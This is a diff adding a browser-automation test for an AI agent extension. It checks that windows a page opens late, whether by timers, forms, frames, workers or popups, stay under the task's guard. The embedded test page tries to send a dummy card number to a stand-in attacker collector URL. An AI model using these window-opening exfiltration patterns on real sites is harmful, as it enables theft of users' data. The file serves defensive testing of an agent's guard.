@@ -1,0 +1,157 @@
+import type { Page } from 'puppeteer-core';
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { PendingApproval, TaskRecord } from '../../shared/protocol';
+import type { AttackSites } from '../fixtures/attacks/attack-sites';
+import type { RecordedRequest } from '../fixtures/fake-provider/fake-provider-server';
+import { useAttackWorld } from './support/attack-world';
+import { currentView } from '../fixtures/fake-provider/prompt-view';
+import { call, refIn } from './support/snapshot-refs';
+import { uiCall } from './support/ui-call';
+import { waitUntil } from './support/wait-until';
+
+// Issue 24 item 3: every tab and window a task's tabs open belongs to the task's guard for the task's whole life,
+// however late it opens. A generated matrix: how the page opens it (a timer, a link or a form with a target, a frame of
+// another site, a worker's message, a popup window, noopener) x when (at once; 4 s later, after the old watch of 1.5 s
+// ended, during a later step) x where (the task's own site, approved; the attacker's, not approved). One task runs
+// them all: one click starts every cell's timer, and the model waits out the longest while the windows open.
+
+const world = useAttackWorld();
+
+const OPENERS = ['timer', 'link', 'form-post', 'frame', 'worker', 'popup', 'noopener'] as const;
+const DELAYS = [0, 4000];
+const DESTINATIONS = ['approved', 'unapproved'] as const;
+type Opener = (typeof OPENERS)[number];
+interface Cell {
+  id: string;
+  opener: Opener;
+  delay: number;
+  destination: (typeof DESTINATIONS)[number];
+}
+const CELLS: Cell[] = OPENERS.flatMap((opener) => DELAYS.flatMap((delay) => DESTINATIONS.map((destination) => ({ id: `${opener}-${delay}-${destination}`, opener, delay, destination }))));
+
+const page = (title: string, body: string): string => `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
+
+/** Where a cell's window goes: a page of the shop (approved: the task's own site), or the attacker's collector. */
+function target(sites: AttackSites, cell: Cell): string {
+  return cell.destination === 'approved' ? `${sites.shopOrigin}/late/land/${cell.id}` : `${sites.evilOrigin}/late/collect/${cell.id}?card=4111111111111111`;
+}
+
+/** The shop's page: one click schedules every cell's window, each the way its opener would open it. */
+function shopPage(sites: AttackSites): string {
+  const cells = JSON.stringify(CELLS.map((cell) => ({ ...cell, url: target(sites, cell) })));
+  const script = `
+    const cells = ${cells};
+    const frame = document.getElementById('ad');
+    const worker = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => setTimeout(() => postMessage(e.data), e.data.delay)"], { type: 'text/javascript' })));
+    worker.onmessage = (e) => window.open(e.data.url);
+    // Not named open: a global function of that name would be window.open itself.
+    function openCell(cell) {
+      switch (cell.opener) {
+        case 'timer': return setTimeout(() => window.open(cell.url), cell.delay);
+        case 'popup': return setTimeout(() => window.open(cell.url, cell.id, 'popup,width=420,height=320'), cell.delay);
+        case 'noopener': return setTimeout(() => window.open(cell.url, '_blank', 'noopener'), cell.delay);
+        case 'link': return setTimeout(() => { const a = document.createElement('a'); a.href = cell.url; a.target = '_blank'; document.body.append(a); a.click(); }, cell.delay);
+        case 'form-post': return setTimeout(() => {
+          const form = document.createElement('form'); form.method = 'post'; form.action = cell.url; form.target = '_blank';
+          const field = document.createElement('input'); field.name = 'card'; field.value = '4111111111111111'; form.append(field);
+          document.body.append(form); form.submit();
+        }, cell.delay);
+        case 'frame': return frame.contentWindow.postMessage(cell, '*');
+        case 'worker': return worker.postMessage(cell);
+      }
+    }
+    document.getElementById('go').addEventListener('click', () => { cells.forEach(openCell); document.getElementById('s').textContent = 'Offers on their way'; });
+  `;
+  return page(
+    'Offers',
+    `<h1>Offers</h1><button id="go">Open offers</button><p id="s"></p><iframe id="ad" src="${sites.cdnOrigin}/late/frame" width="300" height="80" title="Partner"></iframe><script>${script}</script>`,
+  );
+}
+
+// The frame of another site opens its cells' windows itself, on the page's word. It shows no words: words from it
+// would make the click ask (frames cannot borrow the page's authority), and this file is about the windows.
+const FRAME = page('Partner', `<script>onmessage = (e) => setTimeout(() => window.open(e.data.url), e.data.delay);</script>`);
+
+const FINISHED = new Set(['completed', 'failed', 'stopped', 'handed_to_user']);
+
+/**
+ * The model clicks the button once (again only if the click did not take: a page still loading), then waits while the
+ * windows open, past the longest delay, then ends.
+ */
+function script(): Array<(request: RecordedRequest) => ReturnType<typeof call>> {
+  const step = (request: RecordedRequest): ReturnType<typeof call> => {
+    if (currentView(request).includes('Offers on their way')) return call('wait', { seconds: 2.5 });
+    try {
+      return call('click', { ref: refIn(request, 'button', /^Open offers$/) });
+    } catch {
+      return call('wait', { seconds: 0.5 });
+    }
+  };
+  return [...Array.from({ length: 4 }, () => step), () => call('done', { success: true, summary: 'Opened the offers.' })];
+}
+
+async function tabsAt(helper: Page, path: string): Promise<number> {
+  return helper.evaluate(async (p) => (await chrome.tabs.query({})).filter((t) => `${t.url ?? ''} ${t.pendingUrl ?? ''}`.includes(p)).length, path);
+}
+
+describe('windows the page opens late are the task’s, for its whole life', () => {
+  let record: TaskRecord;
+  const approvals: PendingApproval[] = [];
+  let started = 0;
+
+  beforeAll(async () => {
+    const { sites, fake, helper } = world;
+    sites.shop.routes.set('/late/', shopPage(sites));
+    sites.cdn.routes.set('/late/frame', FRAME);
+    for (const cell of CELLS) sites.shop.routes.set(`/late/land/${cell.id}`, page(`Offer ${cell.id}`, `<h1>Offer ${cell.id}</h1>`));
+    for (const site of [sites.shop, sites.evil, sites.cdn]) site.log.length = 0;
+    const tab = await world.ext.browser.newPage();
+    await tab.goto('about:blank#late-windows');
+    const tabId = await helper.evaluate(async () => (await chrome.tabs.query({})).find((t) => t.url === 'about:blank#late-windows')?.id ?? -1);
+    for (const step of script()) fake.enqueue(step);
+    started = Date.now();
+    record = await uiCall(helper, 'task.start', { tabId, text: 'Open the offers for me', mode: 'act', flow: 'task', url: `${sites.shopOrigin}/late/` });
+    // Every approval is refused: the user never lets a window go anywhere.
+    record = await waitUntil(
+      'the task to end',
+      async () => {
+        const now = (await uiCall(helper, 'task.get', { taskId: record.id })) ?? record;
+        const approval = now.approval;
+        if (approval && !approvals.some((a) => a.id === approval.id)) {
+          approvals.push(approval);
+          await uiCall(helper, 'task.approve', { taskId: now.id, approvalId: approval.id, decision: 'reject' }).catch(() => undefined);
+        }
+        return FINISHED.has(now.status) ? now : null;
+      },
+      { timeoutMs: 120_000, everyMs: 150 },
+    );
+  }, 150_000);
+
+  it('the task ran as long as the latest window needed, and every cell really opened its window', async () => {
+    expect(record.status, JSON.stringify(record.agent?.steps.flatMap((s) => s.calls.map((c) => `${c.name} ${c.status}`)))).toBe('completed');
+    expect(Date.now() - started).toBeGreaterThan(Math.max(...DELAYS));
+    for (const cell of CELLS.filter((c) => c.destination === 'unapproved')) {
+      // The window was made, so the attack was tried and stopped: it is still open, held on its first request, or it
+      // was refused on an approval card (and closed).
+      const open = await tabsAt(world.helper, `/late/collect/${cell.id}`);
+      const refused = approvals.filter((a) => a.reason.includes(`/late/collect/${cell.id}`)).length;
+      expect(open + refused, cell.id).toBeGreaterThan(0);
+    }
+  });
+
+  for (const cell of CELLS) {
+    it(`${cell.opener}, after ${cell.delay} ms, to the ${cell.destination} site`, () => {
+      const { sites } = world;
+      if (cell.destination === 'unapproved') {
+        expect(sites.evil.log.filter((r) => r.path.includes(cell.id)), cell.id).toEqual([]);
+      } else {
+        // A window to the task's own site is the task's too, and loads: the guard holds only what leaves.
+        expect(sites.shop.log.some((r) => r.path === `/late/land/${cell.id}`), cell.id).toBe(true);
+      }
+    });
+  }
+
+  it('nothing at all reached the attacker', () => {
+    expect(world.sites.evil.log).toEqual([]);
+  });
+});
